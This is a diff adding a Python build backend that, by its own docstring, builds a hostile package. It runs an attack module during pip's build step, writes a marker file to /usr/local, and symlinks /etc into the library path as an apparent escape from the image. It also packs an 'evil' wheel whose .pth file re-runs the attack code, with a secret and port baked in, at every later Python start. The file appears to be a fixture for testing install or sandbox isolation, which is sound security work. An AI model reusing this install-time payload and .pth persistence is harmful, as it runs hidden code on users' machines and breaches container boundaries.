@@ -1,0 +1,28 @@
+# SPDX-License-Identifier: Apache-2.0
+"""Builds a hostile package: code of it runs while pip builds it, and at each later start of a Python
+that has it, by its .pth."""
+import os
+import zipfile
+
+import attack
+
+HERE = os.path.dirname(os.path.abspath(__file__))
+
+
+def build_wheel(directory, config_settings=None, metadata_directory=None):
+    secret, port = open(os.path.join(HERE, "where")).read().split()
+    with open("/usr/local/attacked-by-pip", "w") as out:
+        attack.main(secret, port, out)
+    # A link that leads whoever follows it, as root and outside, out of the image.
+    os.makedirs("/usr/local/lib/python3.99", exist_ok=True)
+    os.symlink("/etc", "/usr/local/lib/linked")
+    code = open(os.path.join(HERE, "attack.py")).read()
+    with zipfile.ZipFile(os.path.join(directory, "evil-1.0-py3-none-any.whl"), "w") as wheel:
+        wheel.writestr("evil.pth", "import evil\n")
+        wheel.writestr("evil.py", code.replace('if __name__ == "__main__":', "if True:").replace(
+            "main(sys.argv[1], sys.argv[2], sys.stdout)", "main(%r, %r, sys.stderr)" % (secret, port)))
+        wheel.writestr("evil-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n")
+        wheel.writestr("evil-1.0.dist-info/WHEEL",
+                       "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
+        wheel.writestr("evil-1.0.dist-info/RECORD", "")
+    return "evil-1.0-py3-none-any.whl"
